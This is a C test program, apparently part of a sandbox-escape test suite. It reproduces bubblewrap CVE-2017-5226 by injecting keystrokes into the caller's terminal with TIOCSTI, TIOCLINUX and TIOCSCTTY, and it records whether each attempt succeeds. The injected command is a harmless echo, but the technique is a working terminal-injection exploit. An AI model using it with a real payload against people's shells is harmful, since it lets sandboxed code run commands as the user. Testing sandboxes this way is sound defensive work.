/* bubblewrap CVE-2017-5226: a job that shares the caller's controlling
 * terminal pushes a command into the terminal's input queue with TIOCSTI
 * (or selection tricks with TIOCLINUX); the caller's shell runs it after the
 * sandbox exits. Tried on fds 0-2 and /dev/tty. */
#include "attack.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <termios.h>

static void inject(int fd, const char *name)
{
    const char *cmd = "echo INJECTED\n";
    int ok = 0, first_err = 0;
    for (const char *p = cmd; *p; p++) {
        if (ioctl(fd, TIOCSTI, p) == 0)
            ok++;
        else if (!first_err)
            first_err = errno;
    }
    char what[64];
    snprintf(what, sizeof what, "TIOCSTI on %s", name);
    errno = first_err;
    attempt(ok > 0, what, "%d of %zu bytes pushed%s%s", ok, strlen(cmd), first_err ? ", " : "",
            first_err ? res(-1) : "");
    /* TIOCLINUX subcode 2 (set selection) then 3 (paste). */
    char sel[1 + 5 * 2] = {2};
    int r = ioctl(fd, TIOCLINUX, sel);
    snprintf(what, sizeof what, "TIOCLINUX on %s", name);
    attempt(r == 0, what, "%s", res(r));
}

int main(void)
{
    printf("INFO isatty(0)=%d isatty(1)=%d sid=%d pgid=%d\n", isatty(0), isatty(1), getsid(0), getpgrp());
    for (int fd = 0; fd < 3; fd++) {
        char name[16];
        snprintf(name, sizeof name, "fd %d", fd);
        inject(fd, name);
    }
    int t = open("/dev/tty", O_RDWR | O_NOCTTY);
    attempt(t >= 0, "open(/dev/tty) (a controlling terminal)", "%s", res(t));
    if (t >= 0)
        inject(t, "/dev/tty");
    /* Taking the caller's terminal as our controlling one. */
    int r = ioctl(0, TIOCSCTTY, 1);
    attempt(r == 0, "TIOCSCTTY on fd 0", "%s", res(r));
    if (r == 0)
        inject(0, "fd 0 after TIOCSCTTY");
    return done();
}
